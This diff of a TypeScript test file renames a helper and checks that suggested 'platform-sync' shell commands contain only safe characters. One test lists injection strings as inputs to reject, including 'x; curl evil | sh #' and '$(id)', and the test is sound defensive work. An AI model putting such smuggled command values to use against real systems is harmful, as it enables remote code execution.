@@ -1,7 +1,7 @@
 import { execFileSync } from 'node:child_process';
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
-import { adviceFor, adviceWords } from '../../lib/jobs/job-advice.ts';
+import { adviceFor, adviceSentence } from '../../lib/jobs/job-advice.ts';
 
 /** The arguments that a POSIX shell passes to the suggested command; undefined if no command is suggested. */
 function argumentsIn(advice: string): readonly string[] | undefined {
@@ -18,21 +18,21 @@ test.each([
   ['a-1', 'unknown', ['jobs', 'resolve', '--note', 'WHAT YOU SAW', 'a-1', 'done']],
   ['--json', 'unknown', ['jobs', 'resolve', '--note', 'WHAT YOU SAW', '--', '--json', 'done']],
 ] as const)('the command for %s, %s, consists of safe shell words', (id, status, words) => {
-  expect(argumentsIn(adviceWords(id, status))).toEqual(words);
+  expect(argumentsIn(adviceSentence(id, status))).toEqual(words);
 });
 
 test.each(['x; curl evil | sh #', '', 'a\nb', '$(id)', "a'b", 'ID with spaces', 'é', 'x'.repeat(129)])(
   'no command is suggested for %j, which is not a job id',
   (id) => {
     expect(adviceFor(id, 'failed')).toEqual({ say: expect.stringContaining('not the id of a job') });
-    expect(adviceWords(id, 'unknown')).not.toContain('platform-sync ');
+    expect(adviceSentence(id, 'unknown')).not.toContain('platform-sync ');
   },
 );
 
 test('whatever the id, the suggested command contains only safe characters', () => {
   fc.assert(
     fc.property(fc.string({ unit: 'binary' }), fc.constantFrom('failed', 'unknown'), (id, status) => {
-      const [, command = ''] = adviceWords(id, status).split('platform-sync ');
+      const [, command = ''] = adviceSentence(id, status).split('platform-sync ');
 
       expect(command).toMatch(/^[A-Za-z0-9._:= '-]*$/);
     }),
